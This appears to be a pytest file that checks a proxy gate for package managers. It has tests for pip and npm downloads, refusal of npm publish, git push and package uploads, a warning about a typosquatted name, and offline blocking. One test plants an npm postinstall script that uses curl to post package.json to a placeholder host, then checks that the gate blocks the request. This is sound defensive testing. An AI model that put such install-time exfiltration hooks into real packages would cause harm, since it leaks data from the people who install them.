"""The rule set `packages` with this machine's own pip, npm, apt and git, through a real gate to real registries."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shutil
import time
from asyncio.subprocess import DEVNULL, PIPE, STDOUT
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from network.door import SocketStream
from workroom.network.asking import known
from workroom.network.authority import Authority
from workroom.network.exits import Request, Ruling, Traffic
from workroom.network.gate import Gate
from workroom.network.inside import guest_environment
from workroom.network.names import warning
from workroom.network.registries import Kind, Registries, load
from workroom.network.rulebook import RuleBook
from workroom.network.rules import Refusal
from workroom.network.tls import Ahead
from workroom.network.upstream import Unreachable, Upstream

pytestmark = pytest.mark.slow
APT_HELPER = Path("/usr/lib/apt/apt-helper")


class BookJudge:
    """Judges by the book alone, and remembers."""

    def __init__(self, book: RuleBook, sets: tuple[str, ...] = ("packages",)) -> None:
        self.book = book
        self.sets = sets
        self.seen: list[Traffic] = []
        self.warned: list[str] = []

    async def judge(self, request: Request) -> Ruling:
        found = self.book.judge(self.sets, request)
        if isinstance(found, Refusal):
            return Ruling(False, found.rule, found.reason, found.alternative)
        if told := warning(found, request):
            self.warned.append(told)
        return Ruling(True, found.name, by=found)

    def record(self, traffic: Traffic) -> None:
        self.seen.append(traffic)

    @property
    def refused(self) -> list[str]:
        return [each.ruling.rule for each in self.seen if not each.ruling.allowed]

    @property
    def into(self) -> int:
        return sum(each.into for each in self.seen if each.ruling.allowed)


class Inside:
    """A client's surroundings: the door as its proxy, and what a computer gets to use the registries."""

    def __init__(self, judge: BookJudge, registries: Registries, port: int, folder: Path) -> None:
        self.judge = judge
        self.registries = registries
        self.folder = folder
        self.proxy = f"http://127.0.0.1:{port}"

    def registry(self, kind: Kind) -> str:
        found = self.registries.of(kind)
        if not found:
            pytest.skip(f"{kind} is set up for no registry here")
        return found[0].url

    async def run(self, *command: str, **more: str) -> tuple[int, str]:
        if shutil.which(command[0]) is None:
            pytest.skip(f"{command[0]} is not installed here")
        process = await asyncio.create_subprocess_exec(
            *command,
            cwd=self.folder,
            env={**self.environment, **more},
            stdin=DEVNULL,
            stdout=PIPE,
            stderr=STDOUT,
        )
        try:
            said, _ = await asyncio.wait_for(process.communicate(), 100)
        finally:
            if process.returncode is None:
                process.kill()
                await process.wait()
        return process.returncode or 0, said.decode("utf-8", "replace")

    @property
    def environment(self) -> dict[str, str]:
        authority = str(self.folder / "authority.pem")
        certificates = ("PIP_CERT", "NPM_CONFIG_CAFILE", "GIT_SSL_CAINFO", "CURL_CA_BUNDLE", "SSL_CERT_FILE")
        proxies = ("https_proxy", "HTTPS_PROXY", "NPM_CONFIG_HTTPS_PROXY", "http_proxy")
        return {
            "PATH": os.environ["PATH"],
            "HOME": str(self.folder),
            "PIP_CONFIG_FILE": os.devnull,
            "GIT_TERMINAL_PROMPT": "0",
            **guest_environment(self.registries, now=time.time(), age_days=7),
            **dict.fromkeys(certificates, authority),
            **dict.fromkeys(proxies, self.proxy),
        }


@pytest.fixture(scope="module")
def asked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where the answer of this machine's clients is kept."""
    path = tmp_path_factory.mktemp("asked") / "registries.json"
    found = asyncio.run(known(path))
    if not found.found:
        pytest.skip(f"no registry is known here: {found.notes}")
    return path


@pytest.fixture
async def inside(asked: Path, tmp_path: Path) -> AsyncIterator[Inside]:
    judge = BookJudge(RuleBook(tmp_path / "none", asked))
    authority, upstream = Authority("test"), Upstream()
    (tmp_path / "authority.pem").write_bytes(authority.pem)
    gate = Gate(judge, upstream, authority, secret=lambda _: None)
    serving: set[asyncio.Task[None]] = set()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        serving.add(task)
        try:
            await forward(gate, reader, writer)
        finally:
            serving.discard(task)
            writer.close()
            with contextlib.suppress(OSError):
                await writer.wait_closed()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    registries = load(asked) or Registries()
    yield Inside(judge, registries, server.sockets[0].getsockname()[1], tmp_path)
    server.close()
    for task in list(serving):
        task.cancel()
    await asyncio.gather(*serving, return_exceptions=True)
    await server.wait_closed()
    await upstream.close()


async def forward(gate: Gate, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """As the forwarder in a computer does: the client believes that it speaks to the host itself."""
    with contextlib.suppress(OSError, asyncio.IncompleteReadError):
        head = await reader.readuntil(b"\r\n\r\n")
        stream = SocketStream(reader, writer)
        if not head.startswith(b"CONNECT "):
            await gate.serve(Ahead(stream, head))  # without TLS a client names the host in each request
            return
        host, _, port = head.split()[1].decode().rpartition(":")
        await stream.write(b"HTTP/1.1 200 Connected\r\n\r\n")
        await gate.serve(stream, host, int(port))


async def reachable(inside: Inside, kind: Kind) -> None:
    """Skip where the registry itself can't be reached."""
    rule, *_ = next(registry for registry in inside.registries.of(kind)).rules()
    upstream = Upstream()
    try:
        far = await upstream.connect(rule.host, rule.ports[0], tls=not rule.plain, private=rule.private)
        far.close()
        await far.closed()
    except Unreachable as error:
        pytest.skip(f"the registry of {kind} can't be reached: {error}")
    finally:
        await upstream.close()


async def test_pip_installs_a_package(inside: Inside) -> None:
    inside.registry("pip")
    await reachable(inside, "pip")
    code, said = await inside.run("pip3", "download", "--no-deps", "--no-cache-dir", "-d", "got", "six")
    assert code == 0, said
    assert list((inside.folder / "got").glob("six-*"))
    assert {each.request.method for each in inside.judge.seen} == {"GET"}
    assert inside.judge.into > 10_000


async def test_npm_installs_a_package_and_runs_no_script_of_it(inside: Inside) -> None:
    inside.registry("npm")
    await reachable(inside, "npm")
    (inside.folder / "package.json").write_text(
        json.dumps({"name": "x", "version": "1.0.0", "scripts": {"postinstall": "touch beacon"}})
    )
    code, said = await inside.run("npm", "install", "is-number")
    assert code == 0, said
    assert (inside.folder / "node_modules/is-number/package.json").is_file()
    assert not (inside.folder / "beacon").exists()
    assert inside.judge.refused == []


@pytest.mark.case(51)
async def test_an_install_script_that_runs_tells_nobody(inside: Inside) -> None:
    inside.registry("npm")
    beacon = "curl -sS --data @package.json https://beacon.example.net/collect || true"
    (inside.folder / "package.json").write_text(
        json.dumps({"name": "x", "version": "1.0.0", "scripts": {"postinstall": beacon}})
    )
    code, said = await inside.run("npm", "install", NPM_CONFIG_IGNORE_SCRIPTS="false")
    assert code == 0, said
    (beaten,) = inside.judge.seen
    assert (beaten.request.host, beaten.ruling.rule) == ("beacon.example.net", "host-not-allowed")
    assert beaten.out == 0


async def test_apt_reads_its_archive(inside: Inside) -> None:
    url = inside.registry("apt")
    await reachable(inside, "apt")
    if not APT_HELPER.exists():
        pytest.skip("apt-helper is not here")
    suite = inside.registries.of("apt")[0].suite
    option = f"-oAcquire::http::Proxy={inside.proxy}"
    code, said = await inside.run(
        str(APT_HELPER), option, "download-file", f"{url}/dists/{suite}/InRelease", "InRelease"
    )
    assert code == 0, said
    assert (inside.folder / "InRelease").stat().st_size > 1000


@pytest.mark.case(50)
async def test_npm_publish_is_refused_by_name(inside: Inside) -> None:
    url = inside.registry("npm")
    (inside.folder / "package.json").write_text('{"name": "workroom-test-never-there", "version": "1.0.0"}')
    (inside.folder / ".npmrc").write_text(f"//{url.partition('://')[2]}/:_authToken=not-a-token\n")
    code, said = await inside.run("npm", "publish", "--no-git-checks", "--fetch-retries=0")
    assert code != 0
    assert "npm-publish" in inside.judge.refused, said
    assert not any(each.ruling.allowed and each.request.method != "GET" for each in inside.judge.seen)


@pytest.mark.case(50)
async def test_git_push_is_refused_by_name(inside: Inside) -> None:
    for words in (
        ("init", "-q"),
        ("-c", "user.name=x", "-c", "user.email=x@x", "commit", "-q", "--allow-empty", "-m", "x"),
    ):
        code, said = await inside.run("git", *words)
        assert code == 0, said
    code, said = await inside.run(
        "git", "push", "https://github.com/someone/thing.git", "HEAD:refs/heads/main"
    )
    assert code != 0
    assert inside.judge.refused == ["git-push"]
    assert inside.judge.into == 0


@pytest.mark.case(50)
@pytest.mark.parametrize("upload", ["", "upload."])
async def test_an_upload_as_twine_makes_it_is_refused_by_name(inside: Inside, upload: str) -> None:
    host = f"{upload}{inside.registry('pip').partition('://')[2].partition('/')[0]}"
    wheel = inside.folder / "x-1.0-py3-none-any.whl"
    wheel.write_bytes(b"x" * 1000)
    fields = ("-F", ":action=file_upload", "-F", f"content=@{wheel}", "-u", "__token__:not-a-token")
    code, said = await inside.run("curl", "-sS", *fields, f"https://{host}/legacy/")
    assert code == 0, said
    assert json.loads(said)["rule"] == "package-upload"
    assert inside.judge.refused == ["package-upload"]
    assert inside.judge.into == 0


@pytest.mark.case(51)
async def test_a_squatted_name_is_warned_of(inside: Inside) -> None:
    url = inside.registry("npm")
    await inside.run("curl", "-sS", "-m", "20", "-o", "page", f"{url}/loadsh")
    assert inside.judge.warned == [
        "The package loadsh is not lodash, which is well known and named almost alike; was that one meant?"
    ]


async def test_offline_the_same_clients_get_nowhere(inside: Inside) -> None:
    inside.judge.sets = ("offline",)
    inside.registry("pip")
    code, _ = await inside.run("pip3", "download", "--retries", "0", "--no-cache-dir", "-d", "got", "six")
    assert code != 0
    code, _ = await inside.run("npm", "install", "is-number", "--fetch-retries=0")
    assert code != 0
    assert set(inside.judge.refused) == {"host-not-allowed"}
    assert inside.judge.into == 0
    assert not (inside.folder / "got").exists() or not list((inside.folder / "got").iterdir())
